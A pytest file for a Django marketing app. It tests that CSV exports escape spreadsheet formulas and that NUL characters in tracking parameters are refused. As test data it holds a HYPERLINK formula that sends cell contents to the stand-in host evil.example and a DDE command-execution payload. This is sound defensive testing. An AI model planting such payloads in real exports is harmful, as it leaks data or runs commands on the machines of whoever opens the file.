"""Values from shoppers, stores and marketers that used to break things: formulas in exported CSV cells,
NUL characters in tracked parameters."""

from __future__ import annotations

import csv
import io

import pytest

from campaigns import tracking
from campaigns.models import CampaignEvent, Creative
from tests.campaigns.helpers import BROWSER_UA, unit

pytestmark = pytest.mark.django_db

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def test_exported_csvs_never_hold_formulas(vector_product, live_campaign, admin_client):
    product = vector_product(unit(1, 0, 0, 0), title=FORMULA_TITLE)
    campaign = live_campaign(product_count=1)
    Creative.objects.filter(campaign=campaign).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    CampaignEvent.objects.create(
        campaign=campaign,
        creative=campaign.creatives.get(),
        variant="visual",
        kind="impression",
        session_key="s1",
    )

    recommended = admin_client.post(
        "/admin/campaigns/campaign/",
        {"action": "export_recommended_urls", "_selected_action": [campaign.pk]},
    )
    [row] = list(csv.DictReader(io.StringIO(recommended.content.decode())))
    assert (row["product_id"], row["title"]) == (str(product.pk), "'" + FORMULA_TITLE)

    report = admin_client.get(f"/admin/campaigns/campaign/{campaign.pk}/report.csv")
    rows = list(csv.reader(io.StringIO(report.content.decode())))
    creative_cells = [r[0] for r in rows[1:]]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in creative_cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


@pytest.mark.parametrize("query", ["utm_source=%00", "utm_source=news%00x", "gclid=%00", "%00=1"])
def test_nul_characters_in_landing_parameters_are_refused_not_500(
    client, vector_product, live_campaign, query
):
    vector_product(unit(1, 0, 0, 0))
    campaign = live_campaign()

    response = client.get(f"/c/{campaign.slug}/?{query}", headers={"user-agent": BROWSER_UA})

    assert response.status_code == 400
    assert not CampaignEvent.objects.exists()


def test_tracking_drops_parameters_with_nul_characters():
    # For shops whose own middleware does not refuse them: nothing with a NUL reaches the database.
    assert tracking.passthrough_params({"utm_source": "a\x00b", "utm_medium": "cpc"}) == [
        ("utm_medium", "cpc")
    ]
